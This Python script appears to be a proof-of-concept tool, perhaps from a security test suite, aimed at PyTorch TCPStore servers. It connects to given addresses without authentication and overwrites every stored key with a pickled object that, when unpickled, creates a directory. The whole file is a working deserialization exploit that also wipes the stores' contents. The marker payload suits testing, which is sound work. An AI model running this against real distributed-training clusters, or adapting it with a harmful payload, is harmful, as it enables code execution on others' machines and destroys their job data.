"""A stranger who is a client of torch's stores: it overwrites all that they hold with pickles.

As a program: `python store_stranger.py PATH ADDRESS:PORT ...` prints, as JSON, how many keys it has
overwritten at each of these ports that is a store. Whoever unpickles one makes a directory at PATH.
At a port that is no store torch's client may wait for ever, inside C++, where no exception reaches it.
So each port gets a process of its own, which a signal ends.
"""

from __future__ import annotations

import json
import os
import pickle
import signal
import subprocess
import sys
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path

from strangers import Bomb

_BOUND = 8
"""Seconds after which the process of one port is ended."""

_STARTS = 60
"""Seconds that the program may take beside that; it imports torch."""


def overwrite(bomb: Path, places: Iterable[str]) -> dict[str, int]:
    """Overwrite every key of the stores among these places; return how many keys each store had."""
    program = [sys.executable, __file__, str(bomb), *places]
    ended = subprocess.run(program, stdout=subprocess.PIPE, text=True, check=True, timeout=_BOUND + _STARTS)
    written: dict[str, int] = json.loads(ended.stdout)
    return written


# --- as a program ------------------------------------------------------------------------------------


def write_keys(address: str, number: int, text: str) -> int:
    """Write a text in place of every key of a store; return how many keys it had."""
    from torch.distributed import TCPStore

    store = TCPStore(address, number, is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False)
    keys = store.list_keys()
    for key in keys:
        store.set(key, text)
    return len(keys)


def write_in_a_child(place: str, text: str) -> tuple[int, int]:
    """Start `write_keys` in a process that has an end; return its id, and where it says how many."""
    reads, writes = os.pipe()
    child = os.fork()
    if child:
        os.close(writes)
        return child, reads
    signal.signal(signal.SIGALRM, signal.SIG_DFL)
    signal.alarm(_BOUND)
    address, _, number = place.rpartition(":")
    try:
        os.write(writes, str(write_keys(address, int(number), text)).encode())
    finally:
        os._exit(0)  # whatever it was: it is no store


def main(path: str, *places: str) -> None:
    """Write to all ports at the same time."""
    import torch.distributed  # noqa: F401 - once, for all children

    text = pickle.dumps(Bomb(Path(path))).decode("latin-1")
    started = {place: write_in_a_child(place, text) for place in places}
    written: dict[str, int] = {}
    for place, (child, reads) in started.items():
        with os.fdopen(reads) as said:
            if keys := said.read():
                written[place] = int(keys)
        os.waitpid(child, 0)
    print(json.dumps(written), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
